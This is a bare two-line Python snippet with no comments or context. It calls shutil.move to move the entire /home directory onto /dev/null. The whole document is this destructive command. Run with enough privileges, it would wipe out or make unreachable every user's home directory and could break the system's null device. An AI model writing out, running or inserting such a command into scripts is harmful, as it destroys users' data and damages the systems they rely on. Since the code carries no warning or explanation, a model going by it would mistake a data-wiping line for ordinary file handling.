import shutil
shutil.move("/home", "/dev/null")
